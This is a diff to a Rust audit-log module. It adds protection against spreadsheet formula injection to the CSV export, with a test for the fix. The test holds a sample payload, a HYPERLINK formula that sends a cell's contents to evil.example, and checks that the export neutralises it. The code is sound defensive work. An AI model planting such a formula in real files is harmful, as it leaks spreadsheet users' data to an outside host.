@@ -155,8 +155,13 @@ pub fn verify(conn: &Connection) -> rusqlite::Result<Verdict> {
 }
 
 /// The whole log as CSV (RFC 4180), oldest first.
+///
+/// Every text cell is quoted, and one that a spreadsheet would take for a formula (it starts
+/// with `=`, `+`, `-`, `@`, a tab or a carriage return: a username typed at the login form,
+/// say) is prefixed with `'`, so it is shown, never run. The hashes are computed over the
+/// stored values, not the exported ones.
 pub fn export_csv(conn: &Connection, out: &mut impl std::io::Write) -> anyhow::Result<u64> {
-    let q = |s: &str| format!("\"{}\"", s.replace('"', "\"\""));
+    let q = |s: &str| format!("\"{}\"", csv_text(s).replace('"', "\"\""));
     writeln!(out, "seq,at,actor,ip,action,target,detail,prev,hash")?;
     let mut stmt =
         conn.prepare("SELECT seq, at, actor, ip, action, target, detail, prev, hash FROM audit ORDER BY seq")?;
@@ -180,6 +185,15 @@ pub fn export_csv(conn: &Connection, out: &mut impl std::io::Write) -> anyhow::R
         n += 1;
     }
     Ok(n)
+}
+
+/// A text cell a spreadsheet shows and does not evaluate.
+pub fn csv_text(s: &str) -> std::borrow::Cow<'_, str> {
+    if s.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        std::borrow::Cow::Owned(format!("'{s}"))
+    } else {
+        std::borrow::Cow::Borrowed(s)
+    }
 }
 
 #[cfg(test)]
@@ -233,5 +247,24 @@ mod tests {
         assert_eq!(export_csv(s.conn(), &mut out).unwrap(), 1);
         let text = String::from_utf8(out).unwrap();
         assert!(text.contains("\"note with \"\"quotes\"\", and a comma\""), "{text}");
+    }
+
+    #[test]
+    fn a_cell_a_spreadsheet_would_run_is_exported_as_text() {
+        let (_d, s) = db();
+        let evil = r#"=HYPERLINK("http://evil.example/?"&B2,"Open")"#;
+        append(s.conn(), t(0), evil, "-", "login_failed", evil, "").unwrap();
+        for lead in ["+1", "-1", "@SUM(A1)", "\tx", "\rx"] {
+            append(s.conn(), t(1), lead, "-", "login_failed", "x", "").unwrap();
+        }
+        let mut out = Vec::new();
+        export_csv(s.conn(), &mut out).unwrap();
+        let text = String::from_utf8(out).unwrap();
+        assert!(text.contains(r#""'=HYPERLINK(""http://evil.example/?""&B2,""Open"")""#), "{text}");
+        for cell in text.lines().skip(1).flat_map(|l| l.split(',')).filter(|c| c.starts_with('"')) {
+            let inner = cell.trim_matches('"');
+            assert!(!inner.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell} in {text}");
+        }
+        assert!(matches!(verify(s.conn()).unwrap(), Verdict::Intact { .. }), "the chain is over the stored values");
     }
 }
